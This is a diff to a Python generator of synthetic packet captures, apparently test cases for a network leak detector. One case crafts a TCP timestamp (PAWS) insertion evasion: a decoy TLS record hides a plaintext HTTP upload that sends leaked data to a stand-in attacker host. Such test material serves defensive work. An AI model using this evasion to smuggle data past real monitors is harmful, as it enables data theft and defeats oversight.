@@ -906,6 +906,94 @@ def case_after_insert_dstopt6(n):
     return cap, {"leak": [leak(n)]}
 
 
+class TsTcp(ETcp):
+    """A session whose both sides use TCP timestamps (RFC 7323): every
+    segment carries one, each side's clock ticking by one per segment."""
+
+    def __init__(self, *a, **kw):
+        super().__init__(*a, **kw)
+        self.ts = {True: 100000, False: 500000}
+
+    def opts(self, from_client, tsval=None):
+        mine = self.ts[from_client] if tsval is None else tsval
+        if tsval is None:
+            self.ts[from_client] += 1
+        return [("NOP", None), ("NOP", None), ("Timestamp", (mine, self.ts[not from_client] - 1))]
+
+    def handshake(self, gap=None):
+        self.raw(True, "S", options=[("MSS", 1460), ("SAckOK", b""), ("Timestamp", (self.ts[True], 0)),
+                                     ("NOP", None), ("WScale", 7)], gap=gap)
+        self.ts[True] += 1
+        self.cseq += 1
+        self.raw(False, "SA", options=[("MSS", 1460), ("SAckOK", b""), ("Timestamp", (self.ts[False], self.ts[True] - 1)),
+                                       ("NOP", None), ("WScale", 7)])
+        self.ts[False] += 1
+        self.sseq += 1
+        self.raw(True, "A", options=self.opts(True))
+
+    def data(self, from_client, payload, gap=None):
+        self.raw(from_client, "PA", payload, options=self.opts(from_client), gap=gap)
+        if from_client:
+            self.cseq += len(payload)
+        else:
+            self.sseq += len(payload)
+        self.raw(not from_client, "A", options=self.opts(not from_client))
+
+    def close(self, gap=None):
+        self.raw(True, "FA", options=self.opts(True), gap=gap)
+        self.cseq += 1
+        self.raw(False, "FA", options=self.opts(False))
+        self.sseq += 1
+        self.raw(True, "A", options=self.opts(True))
+
+
+def tls_established_ts(cap, cport, isn, seed):
+    t = TsTcp(cap, S1, cport, E2M, 443, isn=isn, rtt_us=20000)
+    t.handshake()
+    t.data(True, hello(seed))
+    t.data(False, server_hello_flight(seed))
+    t.data(True, CCS + tls_appdata(seed + "fin", 53))
+    t.data(True, tls_appdata(seed + "req", 180))
+    t.data(False, tls_appdata(seed + "resp", 700))
+    return t
+
+
+@case
+def case_after_insert_paws(n):
+    """Both sides use timestamps; the decoy record carries an older one than
+    the client sent before (PAWS: the server drops it), then plaintext HTTP."""
+    cap = Capture()
+    t = tls_established_ts(cap, 42165, 265, n)
+    http = b"GET /upload HTTP/1.1\r\nHost: " + EVIL_B + b"\r\nX-Id: " + leak(n) + b"\r\n\r\n"
+    decoy = tls_appdata(n + "decoy", len(http) - 5)
+    base = t.cseq
+    t.raw(True, "PA", decoy, seq=base, options=t.opts(True, tsval=(t.ts[True] - 600000) & 0xFFFFFFFF))
+    t.raw(True, "PA", http, seq=base, options=t.opts(True))
+    t.cseq = base + len(http)
+    t.data(False, tls_appdata(n + "more", 120))
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_after_ts_ok(n):
+    """Both sides use timestamps; records both ways, one sent again with the same stamp."""
+    cap = Capture()
+    t = tls_established_ts(cap, 42166, 266, n)
+    rec = marked_record(passm(n), n + "ts", 300)
+    base = t.cseq
+    stamp = t.ts[True]
+    t.raw(True, "PA", rec, seq=base, options=t.opts(True, tsval=stamp), tcpkw={"chksum": 0xDEAD})
+    t.raw(True, "PA", rec, seq=base, options=t.opts(True, tsval=stamp), gap=200000)
+    t.ts[True] += 1
+    t.cseq = base + len(rec)
+    t.raw(False, "A", options=t.opts(False))
+    t.data(False, tls_appdata(n + "more", 400))
+    t.data(True, tls_appdata(n + "more2", 200))
+    t.close()
+    return cap, {"pass": [passm(n)]}
+
+
 @case
 def case_after_options_ok(n):
     """A session whose segments carry timestamps and SACK blocks (options read, nothing refused)."""
